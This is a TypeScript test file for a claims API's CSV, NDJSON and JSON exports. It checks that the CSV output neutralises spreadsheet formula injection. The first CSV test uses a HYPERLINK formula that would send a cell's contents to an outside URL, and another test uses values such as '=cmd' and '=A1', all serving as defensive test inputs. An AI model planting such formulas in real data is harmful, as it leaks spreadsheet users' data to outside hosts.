import { describe, expect, it } from 'vitest';
import { testApp } from '../support/app.js';
import { csvObjects } from '../support/csv.js';

const t = await testApp();
const get = (url: string, headers?: Record<string, string>) => t.send('GET', url, undefined, headers);

async function claim(input: object): Promise<string> {
  const answer = await t.send('POST', '/v1/claims', { text: 'A claim.', ...input });
  expect(answer.status, answer.text).toBe(201);
  return answer.json.id;
}
const rowOf = async (id: string) =>
  csvObjects((await get('/v1/claims.csv')).text).find((row) => row.id === id)!;

describe('GET /v1/claims.csv', () => {
  it('holds a text that a spreadsheet could run behind an apostrophe, which JSON and NDJSON do not', async () => {
    const text = '=HYPERLINK("https://example.org/?"&A1,"x")';
    const id = await claim({ text });
    expect((await rowOf(id)).text).toBe(`'${text}`);
    expect((await get(`/v1/claims/${id}`)).json.text).toBe(text);
    const ndjson = (await get('/v1/claims.ndjson')).text.trim().split('\n');
    expect(ndjson.map((line) => JSON.parse(line).text)).toContain(text);
  });

  it('keeps numbers as they are, and holds names and lists of names to the same as texts', async () => {
    await t.send('POST', '/v1/parties', { key: 'evil', kind: 'other', name: '=cmd' });
    const id = await claim({
      subject: 'evil',
      value: { type: 'quantity', lower: '-10.5', value: '-7', unit: '@unit', as_stated: '=A1' },
      attributions: [{ party: 'evil', stance: 'denies' }],
    });
    expect(await rowOf(id)).toMatchObject({
      ...{ subject: "'=cmd", denied_by: "'=cmd", unit: "'@unit", as_stated: "'=A1" },
      ...{ lower: '-10.5', value: '-7' },
    });
    const parties = csvObjects((await get('/v1/parties.csv')).text);
    expect(parties.map(({ name }) => name)).toEqual(["'=cmd"]);
  });

  it('leaves the cells of what is not known empty', async () => {
    const money = {
      type: 'money',
      lower: '3',
      lower_exclusive: true,
      currency: null,
      as_stated: 'over 3 million',
    };
    expect(await rowOf(await claim({ value: money }))).toMatchObject({
      ...{ value: '', lower: '3', upper: '', lower_exclusive: 'true', upper_exclusive: 'false' },
      ...{ unit: '', currency: '', as_stated: 'over 3 million' },
    });
  });

  it('gives back a text with line breaks, quotes and commas as it was', async () => {
    const text = 'first,\r\n"second"\n💥';
    expect((await rowOf(await claim({ text }))).text).toBe(text);
  });
});

describe('GET /v1/claims', () => {
  it.each(['text/csv', 'application/x-ndjson', 'image/png', 'application/json;q=0', '*/*', 'nonsense'])(
    'is JSON with Accept: %s, since each form has an address of its own',
    async (accept) => {
      for (const url of ['/v1/claims', '/v1/parties?limit=1']) {
        const answer = await get(url, { accept });
        expect([answer.status, answer.headers['content-type']]).toEqual([200, 'application/json']);
        expect(String(answer.headers.vary).split(', ')).not.toContain('Accept');
      }
    },
  );
});
